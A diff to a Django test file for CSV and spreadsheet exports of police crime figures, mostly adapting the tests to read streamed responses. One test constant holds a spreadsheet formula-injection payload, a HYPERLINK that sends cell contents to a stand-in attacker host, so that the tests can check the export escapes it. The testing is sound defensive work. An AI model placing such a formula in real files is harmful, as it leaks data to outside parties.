@@ -22,7 +22,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def _csv(response) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(response.content.decode())))
+    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))
 
 
 def _sheet(response, name):
@@ -53,8 +53,11 @@ def test_the_figures_csv_writes_counts_as_plain_numbers_with_the_wording_beside(
 ):
     client.force_login(staff)
     response = client.get(reverse("figures_export_csv", args=[campaign.slug]))
-    assert "1,234" not in response.content.decode().split("as_given")[0]
-    rows = {(r["force"], r["period"], r["victim_age"]): r for r in _csv(response)}
+    text = response.getvalue().decode()  # streamed: read once
+    assert "1,234" not in text.split("as_given")[0]
+    rows = {
+        (r["force"], r["period"], r["victim_age"]): r for r in csv.DictReader(io.StringIO(text))
+    }
     kent = rows[("Kent Police", "2016/17", "")]
     assert (kent["value"], kent["as_given"], kent["review"]) == ("1234", "1,234", "approved")
     assert rows[("Kent Police", "2016/17", "13")]["value"] == "<5"  # not a count: kept as given
@@ -69,8 +72,9 @@ def test_approved_only_is_a_choice_and_the_file_says_so(figures, campaign, staff
     client.force_login(staff)
     url = reverse("figures_export_csv", args=[campaign.slug]) + "?basis=approved"
     response = client.get(url)
-    assert {r["force"] for r in _csv(response)} == {"Kent Police"}
-    assert {r["review"] for r in _csv(response)} == {"approved"}
+    rows = _csv(response)  # streamed: read once
+    assert {r["force"] for r in rows} == {"Kent Police"}
+    assert {r["review"] for r in rows} == {"approved"}
     assert "-figures-approved.csv" in response["Content-Disposition"]
     response = client.get(reverse("figures_export_xlsx", args=[campaign.slug]) + "?basis=approved")
     rows, book = _sheet(response, "figures")
@@ -191,7 +195,7 @@ def test_no_csv_export_writes_a_formula(hostile, campaign, staff, client, url, b
     client.force_login(staff)
     response = client.get(reverse(url, args=[campaign.slug]) + f"?metric=offences&basis={basis}")
     assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
     cells = [c for row in rows for c in row]
     assert "'" + FORMULA in cells, url  # the force's name, shown as typed
     bad = [c for c in cells if c.startswith(STARTS) and not _is_number(c)]
